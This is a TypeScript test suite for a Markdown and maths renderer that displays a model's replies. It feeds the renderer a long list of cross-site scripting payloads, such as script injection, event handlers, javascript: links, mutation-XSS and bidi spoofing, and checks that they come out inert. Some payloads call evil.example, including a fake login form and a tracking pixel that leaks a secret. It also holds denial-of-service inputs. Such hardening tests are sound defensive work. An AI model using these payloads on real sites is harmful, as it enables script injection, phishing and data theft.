// Texts of a model that may harm its reader: they become no more than text, links that say where they
// lead, and the elements of Markdown; and none of them takes long.

import assert from "node:assert/strict";
import { before, test } from "node:test";

import { Window } from "happy-dom";
import katex from "katex";
import { render } from "preact";

import { Block } from "./Block";
import { Blocks } from "./blocks";
import { lex } from "./lexer";
import { set } from "./Maths";

const window = new Window({ url: "http://localhost:8080/" });

before(() => {
  Object.assign(globalThis, { document: window.document, window, Node: window.Node });
});

/** The elements that a message may have, and their attributes. */
const ELEMENTS = new Set(
  ("a aside b bdi blockquote br button code dd del div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i input kbd li mark ol p path " +
    "pre s span strong sub sup svg table tbody td th thead tr u ul").split(" "),
);
const ATTRIBUTES = new Set(
  ("aria-hidden aria-label aria-pressed checked class d data-footnote data-mark dir disabled href rel role start tabindex target title type " +
    "viewbox").split(" "),
);

function shown(text: string): HTMLElement {
  const place = window.document.createElement("div") as unknown as HTMLElement;
  const tokens = lex(text);
  render(
    <>
      {tokens.map((token, index) => (
        <Block key={index} token={token} open={false} />
      ))}
    </>,
    place,
  );
  return place;
}

function assertHarmless(place: HTMLElement): void {
  for (const element of place.querySelectorAll("*")) {
    const name = element.tagName.toLowerCase();
    assert.ok(ELEMENTS.has(name), `an element <${name}>`);
    for (const attribute of element.attributes) {
      assert.ok(ATTRIBUTES.has(attribute.name.toLowerCase()), `an attribute ${attribute.name} of <${name}>`);
    }
    const href = element.getAttribute("href");
    if (href !== null) {
      assert.match(href, /^(?:https?:\/\/|mailto:)/, "an address");
      assert.equal(element.getAttribute("rel"), "noopener noreferrer nofollow");
      assert.equal(element.getAttribute("title"), href, "the title says where a link leads");
    }
    const type = element.getAttribute("type");
    assert.ok(type === null || type === "button" || (type === "checkbox" && element.hasAttribute("disabled")));
  }
}

/** Each is text that a page which trusts it would run, load, follow or be confused by. */
const attacks = [
  // footnotes and alerts
  '[^"onclick=alert(1)] [^<script>]\n\n[^"onclick=alert(1)]: <img src=x onerror=alert(1)>\n[^<script>]: [a](javascript:alert(1))',
  '> [!NOTE]\n> <script>alert(1)</script> [a](javascript:alert(1))',
  '> [!"><img src=x onerror=alert(1)>]\n> a',
  // scripts
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\u0000>alert(1)</script>",
  "text\n\n<script type=module>import('//evil.example')</script>\n\ntext",
  "> <script>alert(1)</script>",
  "- <script>alert(1)</script>",
  "| a |\n|---|\n| <script>alert(1)</script> |",
  "# <script>alert(1)</script>",
  "**<script>alert(1)</script>**",
  "`<script>`</script><script>alert(1)</script>",
  "```\n</code></pre><script>alert(1)</script>\n```",
  "```\"><script>alert(1)</script>\ncode\n```",
  "```js onload=alert(1) style=x\ncode\n```",
  "``` __proto__\ncode\n```",
  "``` constructor\ncode\n```",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3c;img src=x onerror=alert(1)&#x3e;",
  // handlers
  "<img src=x onerror=alert(1)>",
  "<img/src/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<b onmouseover=alert(1)>bold</b>",
  "<br onclick=alert(1)>",
  "<sub/onclick=alert(1)>x</sub>",
  "<u style=position:fixed;inset:0>over all</u>",
  "<kbd class=button>x</kbd>",
  "<p is=x-evil>x</p>",
  // frames, forms, styles, what changes the page
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=//evil.example/x.swf></object>",
  "<embed src=//evil.example>",
  "<form action=//evil.example><input name=key><button>Log in</button></form>",
  "<style>*{background:url(//evil.example)}</style>",
  "<style>@import '//evil.example/x.css';</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=dns-prefetch href=//secret.evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "<textarea>",
  "<plaintext>",
  "</div></article></main><h1>Your session has ended</h1>",
  "<!-- a comment that is not closed",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><x/>",
  "<template><script>alert(1)</script></template>",
  // texts that change their meaning when they are read as HTML a second time
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<select><template><style><!--</style><a rel=\"--></style></template></select><img onerror=alert(1)>\">",
  "<a title=\"`<img src=x onerror=alert(1)>`\">x</a>",
  "<x title='&quot;><img src=x onerror=alert(1)>'>",
  // names that shadow those of the page
  "<a id=app name=app>x</a><a id=app name=children>y</a>",
  "<form id=document><input name=createElement></form>",
  "<img name=currentScript>",
  "# app\n\n## __proto__\n\n## document",
  "[^app]\n\n[^app]: a note",
  // addresses
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;&#x61;vascript&colon;alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](javascript://example.org/%0aalert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](blob:http://localhost:8080/1)",
  "[x](file:///etc/passwd)",
  "[x](view-source:http://localhost)",
  "[x](//evil.example)",
  "[x](/v1/slots/0?action=erase)",
  "[x](#app)",
  "[x](https://example.org\"onmouseover=alert(1))",
  "[x](https://example.org 'title\" onmouseover=\"alert(1)')",
  "[x]: javascript:alert(1)\n\n[x]",
  "[__proto__]: javascript:alert(1)\n\n[__proto__]",
  "[constructor] and [toString][__proto__]",
  "<javascript:alert(1)>",
  "<javascript&colon;alert(1)>",
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "[a [b](https://one.example) c](https://two.example)",
  // pictures
  "![x](https://evil.example/pixel.gif?secret)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](//evil.example/pixel.gif)",
  "![x\" onerror=\"alert(1)](https://evil.example/x.gif)",
  "[![x](https://evil.example/a.gif)](https://evil.example/b)",
  "![x][p]\n\n[p]: https://evil.example/pixel.gif",
  // directions
  "\u202egnp.exe\u202c and \u2066isolated",
  "[https://good.example/\u202emoc.live](https://evil.example)",
  "```\nif (admin\u202e \u2066// for users\u2069\u2066) {\n```",
];

for (const attack of attacks) {
  test(`harmless: ${JSON.stringify(attack).slice(0, 70)}`, () => {
    const place = shown(attack);
    assertHarmless(place);
    assert.equal(place.querySelectorAll("a a").length, 0, "a link inside a link");
    assert.equal(place.querySelectorAll("[id], [name], [style], [src], [onclick]").length, 0);
  });
}

test("an attack is harmless at each length while it is written", () => {
  for (const attack of attacks) {
    const place = window.document.createElement("div") as unknown as HTMLElement;
    const blocks = new Blocks();
    for (let end = 1; end <= attack.length; end += 1) {
      const list = blocks.update(attack.slice(0, end), true);
      render(<>{list.map(({ key, token }) => <Block key={key} token={token} open />)}</>, place);
      assertHarmless(place);
    }
  }
});

test("HTML is shown as it was written", () => {
  for (const attack of ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</div></main>", "<!-- x -->"]) {
    assert.equal(shown(attack).textContent, attack);
    assert.equal(shown(`before ${attack} after`).textContent, `before ${attack} after`);
  }
});

test("a picture is a link that shows its address, and loads nothing", () => {
  const place = shown("![a cat](https://evil.example/cat.png?chat=secret)");
  assert.equal(place.querySelectorAll("img").length, 0);
  assert.equal(place.querySelector("a")?.getAttribute("href"), "https://evil.example/cat.png?chat=secret");
  assert.match(place.textContent ?? "", /a cat \(https:\/\/evil\.example\/cat\.png\?chat=secret\)/);
});

test("a link that looks like another address says where it leads", () => {
  const says = (text: string) => shown(text).querySelector(".place")?.textContent ?? "";
  assert.equal(says("[https://bank.example](https://evil.example/login)"), " (evil.example)");
  assert.equal(says("[bank.example](https://evil.example)"), " (evil.example)");
  assert.equal(says("[**bank.example**/login](https://bank.example@evil.example)"), " (evil.example)");
  assert.equal(says("[me@bank.example](mailto:me@evil.example)"), " (me@evil.example)");
  assert.equal(says("[https://bank.example\u200b](https://evil.example)"), " (evil.example)");
  assert.equal(says("[https://bank.example/a](https://www.bank.example/b)"), "");
  assert.equal(says("https://bank.example/a"), "");
  assert.equal(says("[read this](https://bank.example)"), "");
});

test("characters that turn text around are seen in code", () => {
  const place = shown("```\na\u202eb\u2069\n```");
  assert.equal(place.querySelector("pre")?.textContent, "a⟨U+202E⟩b⟨U+2069⟩");
});

const formulas = [
  "\\href{javascript:alert(1)}{x}",
  "\\url{javascript:alert(1)}",
  "\\includegraphics{https://evil.example/x.png}",
  "\\htmlId{app}{x}",
  "\\htmlClass{button}{x}",
  "\\htmlStyle{position:fixed}{x}",
  "\\htmlData{x=y}{z}",
  "\\def\\a{\\a\\a}\\a",
  "\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\a\\a}\\a",
  "\\newcommand{\\x}{\\x}\\x",
  "\\gdef\\frac{evil}",
  "\\rule{1000em}{1000em}",
  "\\kern-1000em x",
  "\\color{red;position:fixed}x",
  "\\textcolor{expression(alert(1))}{x}",
  "\\unicode{x3c}script\\unicode{x3e}",
  "</span><script>alert(1)</script>",
  "\\text{<img src=x onerror=alert(1)>}",
  "\\text{</annotation></semantics></math><script>alert(1)</script>}",
  `${"{".repeat(1900)}x${"}".repeat(1900)}`,
  "\\sqrt{".repeat(700),
  "x^{".repeat(1000),
  "\\frac".repeat(700),
  "\\left(".repeat(600),
  "&".repeat(4000),
];

for (const formula of formulas) {
  test(`a formula does no harm: ${formula.slice(0, 50)}`, () => {
    const place = window.document.createElement("span") as unknown as HTMLElement;
    const begun = performance.now();
    set(katex, formula, false, place);
    assert.ok(performance.now() - begun < 1500, "it takes long");
    for (const element of place.querySelectorAll("*")) {
      assert.ok(!/^(?:a|img|script|iframe|style|link|form|input)$/i.test(element.tagName), element.tagName);
      for (const { name, value } of element.attributes) {
        assert.ok(!/^(?:on|id$|href$|src$|data-)/i.test(name), `an attribute ${name}`);
        assert.ok(name !== "style" || !/url|position:\s*fixed|expression/i.test(value), `a style ${value}`);
      }
    }
  });
}

test("a macro does not outlive its formula", () => {
  const place = window.document.createElement("span") as unknown as HTMLElement;
  set(katex, "\\gdef\\frac{evil}\\frac", false, place);
  set(katex, "\\frac{1}{2}", false, place);
  assert.ok(!place.textContent?.includes("evil"));
  assert.ok(!place.classList.contains("source"));
});

/** Texts whose reading would take time that grows with the square of their length, or worse. */
const N = 20_000;
const heavy: Record<string, string> = {
  stars: "*".repeat(N),
  "stars apart": "*a ".repeat(N),
  "stars together": "**a".repeat(N),
  "stars and lines": "*_a".repeat(N),
  "stars around": `${"*".repeat(N)}a${"*".repeat(N)}`,
  lines: "a__".repeat(N),
  tildes: "~~a".repeat(N),
  brackets: "[".repeat(N),
  "brackets closed": `${"[".repeat(N)}${"]".repeat(N)}`,
  links: "[a](".repeat(N),
  "links with titles": "[a](b \"".repeat(N),
  "links with parentheses": `[a](${"(".repeat(N)}`,
  pictures: "![a](<".repeat(N),
  references: "[a]".repeat(N),
  definitions: "[a]: b\n".repeat(N / 4),
  backticks: Array.from({ length: 200 }, (_, index) => "`".repeat(index)).join(" "),
  "one backtick": "` `` ".repeat(N),
  backslashes: "\\".repeat(N),
  quotes: ">".repeat(N),
  "quotes with spaces": `${"> ".repeat(N)}a`,
  "quotes left and taken up": `${">".repeat(40)}a\nb\n`.repeat(40),
  "quotes that get deeper": Array.from({ length: 150 }, (_, index) => `${">".repeat(index)} a\n`).join(""),
  lists: `${"- ".repeat(N)}a`,
  "lists that get deeper": Array.from({ length: 150 }, (_, index) => `${"  ".repeat(index)}- a\n`).join(""),
  "lists in quotes": `${"> - ".repeat(2000)}a`,
  "stars in lists": `${"* * ".repeat(N)}a`,
  rules: "- ".repeat(N),
  numbers: "1. a\n".repeat(N / 4),
  tags: "<a ".repeat(N),
  "tags with quotes": "<a href='".repeat(N),
  comments: "<!--".repeat(N),
  "angle brackets": "<".repeat(N),
  "open elements": "<sub>".repeat(N),
  "elements in elements": `${"<sub>".repeat(400)}x${"</sub>".repeat(400)}`,
  mail: "a@".repeat(N),
  "mail with points": `${"a.".repeat(N)}@`,
  "mail with dashes": `${"a-".repeat(N)}@b`,
  addresses: "http://".repeat(N),
  www: "www.".repeat(N),
  "an address without an end": `https://a.b/${"(".repeat(N)}`,
  "an address with marks": `https://a.b/${"&a;".repeat(N)}`,
  references2: "&amp".repeat(N),
  table: `${"|a".repeat(2000)}\n${"|-".repeat(2000)}\n${"|a".repeat(2000)}`,
  "a table without cells": `a|b\n${"-".repeat(N)}|`,
  "pipes": `${"a | ".repeat(N / 4)}\n`.repeat(4),
  fences: "```\n".repeat(N),
  "fences of backticks": "`".repeat(N),
  spaces: `a${" ".repeat(N)}b`,
  "spaces at ends": "a  \n".repeat(N / 4),
  tabs: `${"\t".repeat(N)}a`,
  "blank lines": `a${"\n".repeat(N)}b`,
  hashes: `# a ${"#".repeat(N)} b`,
  word: "a".repeat(8 * N),
  "many words": "word ".repeat(4 * N),
  "many lines": "word\n".repeat(4 * N),
  "many paragraphs": "word $ and word\n\n".repeat(N),
  dollars: "$".repeat(N),
  "dollars apart": "$a ".repeat(N),
  "dollars and letters": "$a".repeat(N),
  "dollars on lines": "$$\n".repeat(N / 2),
  "brackets of maths": "\\[ ".repeat(N),
  "parentheses of maths": "\\( ".repeat(N),
  "marks of combination": `a${"\u0301".repeat(N)}`,
};

for (const [name, text] of Object.entries(heavy)) {
  test(`does not take long: ${name}`, () => {
    const before = process.cpuUsage().user;
    const tokens = lex(text);
    const spent = (process.cpuUsage().user - before) / 1000;
    assert.ok(spent < 15_000, `${spent} ms`);
    assert.ok(tokens.length > 0);
  });
}
